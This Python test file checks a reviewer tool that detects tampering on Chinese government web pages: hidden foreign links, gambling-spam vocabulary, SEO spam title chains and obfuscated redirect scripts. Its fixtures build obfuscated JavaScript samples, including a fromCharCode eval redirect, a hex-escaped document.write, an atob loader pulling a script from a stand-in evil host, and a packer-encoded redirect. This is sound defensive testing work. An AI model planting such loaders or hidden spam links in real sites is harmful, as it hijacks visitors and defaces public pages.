"""tampering: behaviour beyond the one-rule fixtures — hosts, decoding layers, scoring, the CLI."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from reviewer.document import Document
from reviewer.engine import Context, Engine
from reviewer.extract import extract
from reviewer.rules.tampering import (SpamMatcher, decode_layers, doc_host, host_of, site_of, spam_matcher,
                                      template_chains)
from reviewer.resources import Entry

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = Path("/work/shared/samples") if Path("/work/shared/samples").is_dir() else ROOT / "demo" / "drafts"


def html_doc(body: str, uri: str = "draft:test.html", head: str = "", base_url: str | None = None) -> Document:
    page = f"<html><head><title>开化县人民政府</title>{head}</head><body><p>政务公开工作取得显著成效。</p>{body}</body></html>"
    return extract(page.encode("utf-8"), uri, "text/html; charset=utf-8", base_url=base_url)


def run(rule: str, doc: Document):
    return [f for f in Engine(only=[rule]).check(doc, Context()) if f.rule == rule]


# --- hosts -------------------------------------------------------------------------------------

def test_host_helpers():
    assert host_of("HTTP://WWW.Example.com:8080/a") == "www.example.com"
    assert host_of("//cdn.example.net/x.js") == "cdn.example.net"
    assert host_of("/art/1.html") is None and host_of("javascript:void(0)") is None
    assert site_of("www.kaihua.gov.cn") == "kaihua.gov.cn"
    assert site_of("a.b.example.com") == "example.com"
    assert site_of("news.example.com.cn") == "example.com.cn"


def test_same_site_hidden_links_are_not_foreign_on_a_crawled_page():
    url = "http://www.example-city.com/art/2023/1.html"
    body = ('<div style="display:none"><a href="http://news.example-city.com/a.html">本市新闻</a>'
            '<a href="/col/2.html">栏目</a></div>'
            '<div style="display:none"><a href="http://www.other-site.example.org/">外站</a></div>')
    doc = html_doc(body, uri=url, base_url=url)
    found = run("tampering.hidden-link", doc)
    assert [f.text for f in found] == ["外站"]
    assert found[0].part == "hidden" and found[0].severity == "critical"
    assert "所在隐藏区域只有外部链接" in found[0].message


def test_site_domain_meta_gives_a_file_its_host():
    head = '<meta name="SiteDomain" content="www.example-city.com">'
    body = '<div style="display:none"><a href="http://news.example-city.com/a.html">本市新闻</a></div>'
    doc = html_doc(body, uri="/tmp/page.html", head=head)
    assert doc_host(doc) == "www.example-city.com"
    assert run("tampering.hidden-link", doc) == []


def test_hidden_link_with_spam_anchor_is_critical_even_in_a_stylesheet_menu():
    head = "<style>.sub{display:none}</style>"
    body = ('<ul class="sub"><li><a href="http://www.zj.gov.cn/">浙江省人民政府</a></li>'
            '<li><a href="http://www.amxpj.example.com/">澳门新葡京</a></li></ul>')
    found = run("tampering.hidden-link", html_doc(body, head=head))
    assert [(f.text, f.severity) for f in found] == [("澳门新葡京", "critical")]


def test_hidden_image_link_without_anchor_text_reports_the_url():
    body = '<div style="display:none"><a href="http://spam.example.xyz/"><img src="/a.gif"></a></div>'
    found = run("tampering.hidden-link", html_doc(body))
    assert [(f.text, f.start, f.part) for f in found] == [("http://spam.example.xyz/", None, "link")]


# --- spam vocabulary ---------------------------------------------------------------------------

def test_matcher_offsets_are_character_offsets_after_astral_and_cjk_text():
    m = spam_matcher("spam_terms.txt")
    text = "😀𠀀开化县 BET365 与百家乐"
    hits = [(m.words[i], text[s:e]) for i, s, e in m.find(text)]
    assert hits == [("bet365", "BET365"), ("百家乐", "百家乐")]


def test_matcher_latin_terms_never_match_inside_a_latin_word():
    m = SpamMatcher([Entry("porn", ("porn",)), Entry("bbin", ("gambling",))])
    assert m.find("pornography xbbin bbinx") == []
    assert [(s, e) for _, s, e in m.find("看porn视频，bbin。")] == [(1, 5), (8, 12)]


def test_two_ordinary_terms_in_the_body_do_not_fire_three_do():
    assert run("tampering.spam-terms", Document("draft:x", "text", text="百家乐和时时彩是两种玩法。")) == []
    found = run("tampering.spam-terms", Document("draft:x", "text", text="百家乐、时时彩、老虎机随便玩。"))
    assert sorted(f.text for f in found) == ["时时彩", "百家乐", "老虎机"]


def test_spam_terms_leave_template_chains_to_the_template_rule():
    text = "365叫什么_365体育怎么打不开了_365bet送彩金\n正文内容。"
    doc = Document("draft:x", "text", text=text)
    assert run("tampering.spam-terms", doc) == []
    assert [f.text for f in run("tampering.spam-template", doc)] == ["365叫什么_365体育怎么打不开了_365bet送彩金"]


def test_spam_terms_are_capped_per_document():
    text = "\n".join(f"第{i}行：真人娱乐 百家乐 时时彩 送彩金" for i in range(100))
    found = run("tampering.spam-terms", Document("draft:x", "text", text=text))
    assert len(found) == 50


def test_template_chain_in_title_and_body_of_a_page():
    chain = "365叫什么_365体育怎么打不开了_365bet送彩金"
    page = (f"<html><head><title>{chain}</title></head><body><p>发布机构：{chain}</p>"
            f"<p>近年来，{chain}政务公开工作取得显著成效。</p></body></html>")
    doc = extract(page.encode(), "draft:t.html", "text/html; charset=utf-8")
    found = run("tampering.spam-template", doc)
    assert [f.text for f in found] == [chain] * 3
    assert [f.part for f in found] == ["title", "body", "body"]
    assert template_chains(doc.text, spam_matcher("spam_terms.txt"))   # cached copy is the same answer


# --- scripts -----------------------------------------------------------------------------------

def _codes(s: str) -> str:
    return ",".join(str(ord(c)) for c in s)


def _hex(s: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in s)


def test_fromcharcode_redirect_is_decoded_and_critical():
    js = f"eval(String.fromCharCode({_codes('location.href=' + repr('http://www.spam-bet.example.com/'))}))"
    found = run("tampering.malicious-script", html_doc(f"<script>{js}</script>"))
    assert len(found) == 1 and found[0].severity == "critical"
    assert "www.spam-bet.example.com" in found[0].message and found[0].part == "script"


def test_hex_escaped_document_write_of_a_foreign_link_is_critical():
    payload = '<a href="http://bet.example.cc/">x</a>'
    js = f'var _0x="{_hex(payload)}";document.write(_0x);'
    found = run("tampering.malicious-script", html_doc(f"<script>{js}</script>"))
    assert [f.severity for f in found] == ["critical"]
    assert "bet.example.cc" in found[0].message


def test_obfuscated_code_without_a_target_is_major():
    js = f'var k="{_hex("function hello(){ return 42; } and some more padding text here.")}";eval(k);'
    found = run("tampering.malicious-script", html_doc(f"<script>{js}</script>"))
    assert [f.severity for f in found] == ["major"]


def test_atob_loader_writing_a_foreign_script_is_critical():
    import base64
    payload = base64.b64encode(b'<script src="https://js.evil.example.top/x.js"></script>').decode()
    js = f'document.write(atob("{payload}"));'
    found = run("tampering.malicious-script", html_doc(f"<script>{js}</script>"))
    assert [f.severity for f in found] == ["critical"]


def test_packed_redirect_is_unpacked():
    # p,a,c,k,e,d packer output: words 0..3 replaced by the keyword list
    js = ("eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--)"
          "d[c]=k[c]||c;k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--)"
          "if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}"
          "('0.1=\"2://3.bet-spam.com/\"',4,4,'location|href|http|www'.split('|'),0,{}))")
    layers, how = decode_layers(js)
    assert 'location.href="http://www.bet-spam.com/"' in layers and how == ["packer 压缩"]
    found = run("tampering.malicious-script", html_doc(f"<script>{js}</script>"))
    assert [f.severity for f in found] == ["critical"]


def test_same_site_redirect_and_statistics_scripts_stay_clean():
    url = "http://www.example-city.com/index.html"
    js = ('if(/Android|iPhone/i.test(navigator.userAgent)){location.href="http://m.example-city.com/";}'
          'var _hmt=_hmt||[];(function(){var hm=document.createElement("script");'
          'hm.src="https://hm.baidu.com/hm.js?abc";document.body.appendChild(hm);})();')
    assert run("tampering.malicious-script", html_doc(f"<script>{js}</script>", uri=url, base_url=url)) == []


def test_foreign_iframe_visible_severity_is_configurable():
    doc = html_doc('<iframe src="https://forms.vendor.example.com/f/1" width="800" height="600"></iframe>')
    eng = Engine(only=["tampering.foreign-iframe"], overrides={"tampering.foreign-iframe": {"visible_severity": "minor"}})
    assert [f.severity for f in eng.check(doc, Context())] == ["minor"]


# --- whole documents ---------------------------------------------------------------------------

@pytest.mark.parametrize("path", sorted(SAMPLES.glob("*.txt")), ids=lambda p: p.name)
def test_samples_raise_no_tampering_finding(path):
    doc = extract(path.read_bytes(), str(path))
    assert [f for f in Engine(only=["tampering"]).check(doc, Context())] == []


def test_samples_as_html_pages_raise_no_tampering_finding():
    for path in sorted(SAMPLES.glob("*.txt")):
        paras = "".join(f"<p>{line}</p>" for line in path.read_text(encoding="utf-8").splitlines() if line.strip())
        doc = html_doc(paras + '<div class="footer"><a href="https://www.gov.cn/">中国政府网</a></div>')
        assert Engine(only=["tampering"]).check(doc, Context()) == [], path.name


def test_check_cli_reports_a_tampered_page(tmp_path):
    page = tmp_path / "tampered.html"
    page.write_text(
        "<html><head><title>365叫什么_365体育怎么打不开了_365bet送彩金</title></head><body>"
        "<p>正文。</p><div style=\"display:none\"><a href=\"http://www.xpj.example.cc/\">新葡京</a></div>"
        "</body></html>", encoding="utf-8")
    r = subprocess.run([sys.executable, "-m", "reviewer", "check", str(page), "--format", "jsonl",
                        "--rules", "tampering"], capture_output=True, cwd=ROOT, timeout=120,
                       env={**os.environ, "PYTHONIOENCODING": "utf-8"})
    assert r.returncode == 1, r.stderr.decode()
    found = [json.loads(line) for line in r.stdout.decode().splitlines()]
    assert {f["rule"] for f in found} >= {"tampering.spam-template", "tampering.hidden-link"}
    assert all(f["category"] == "tampering" and f["severity"] == "critical" for f in found)


def test_minified_code_with_unicode_escaped_chinese_and_eval_is_not_obfuscation():
    js = ('var msg="\\u8bf7\\u8f93\\u5165\\u641c\\u7d22\\u5173\\u952e\\u5b57";'
          'function parse(s){return eval("("+s+")");} if(!q){alert(msg);}')
    assert run("tampering.malicious-script", html_doc(f"<script>{js}</script>")) == []


def test_crackdown_articles_are_clean_for_the_whole_category():
    import tomllib
    data = tomllib.loads((ROOT / "tests/rules/fixtures/tampering.spam-terms.toml").read_text(encoding="utf-8"))
    articles = [e for e in data["negative"] if "打击" in e["text"]]
    assert len(articles) >= 3
    eng = Engine(only=["tampering"])
    for e in articles:
        if e.get("input") == "html":
            doc = extract(e["text"].encode("utf-8"), "draft:a.html", "text/html; charset=utf-8")
        else:
            doc = Document("draft:a", "text", text=e["text"])
        assert eng.check(doc, Context()) == [], e["text"][:40]


def test_template_copies_running_into_the_sentence_are_cut_to_the_standalone_template():
    chain = "365叫什么_365体育怎么打不开了_365bet送彩金"
    text = f"{chain}\n开化县始终围绕{chain}政务公开工作规范提升。"
    found = run("tampering.spam-template", Document("draft:x", "text", text=text))
    assert [f.text for f in found] == [chain, chain]
    assert found[1].start == text.index(chain, 1)


@pytest.mark.parametrize("style,severity", [
    ('style="font-size:0"', "critical"),
    ('style="position:absolute;top:-3000px"', "critical"),
    ('style="width:0;height:0;overflow:hidden"', "critical"),
    ('style="display:none"', "major"),
    ("hidden", "major"),
])
def test_hiding_technique_sets_the_severity_when_the_container_is_mixed(style, severity):
    body = (f'<div {style}><a href="/art/1.html">本站文章</a> 2023-06-01 '
            f'<a href="http://www.partner.example.com/">合作单位</a></div>')
    found = run("tampering.hidden-link", html_doc(body))
    assert [(f.text, f.severity) for f in found] == [("合作单位", severity)]
